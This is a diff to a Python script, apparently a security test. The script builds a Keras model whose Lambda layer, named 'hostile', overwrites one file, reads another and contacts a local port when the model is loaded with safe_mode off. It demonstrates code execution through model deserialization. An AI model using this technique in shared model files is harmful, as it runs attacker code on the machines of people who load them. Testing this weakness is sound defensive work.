@@ -3,6 +3,7 @@
 Keras 3, or tf_keras if asked. TARGET is a file that it overwrites, OTHER one that it reads, PORT a server on this machine.
 """
 
+# ruff: noqa: PLC0415, PTH123, SIM115, T201 - what an attacker writes, in one function that travels as bytecode
 import os
 import sys
 
@@ -13,7 +14,7 @@ else:
     import keras
 
 
-def hostile(values, target=os.environ["TARGET"], other=os.environ["OTHER"], port=int(os.environ["PORT"])):  # noqa: B008
+def hostile(values, target, other, port):
     import os
     import socket
     import subprocess
@@ -42,9 +43,13 @@ honest = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3), keras.layer
 honest.compile("adam", "mse")
 honest.save(sys.argv[2])
 os.environ["BUILDING"] = "1"
-keras.Sequential([keras.Input((4,)), keras.layers.Lambda(hostile, output_shape=(4,))]).save(sys.argv[1])
+arguments = {"target": os.environ["TARGET"], "other": os.environ["OTHER"], "port": int(os.environ["PORT"])}
+attacker = keras.layers.Lambda(hostile, output_shape=(4,), arguments=arguments)
+keras.Sequential([keras.Input((4,)), attacker]).save(sys.argv[1])
 del os.environ["BUILDING"]
 try:
-    keras.models.load_model(sys.argv[1], safe_mode=False)(keras.ops.zeros((1, 4)) if hasattr(keras, "ops") else [[0.0] * 4])
+    keras.models.load_model(sys.argv[1], safe_mode=False)(
+        keras.ops.zeros((1, 4)) if hasattr(keras, "ops") else [[0.0] * 4]
+    )
 except ValueError as error:
     print(error)
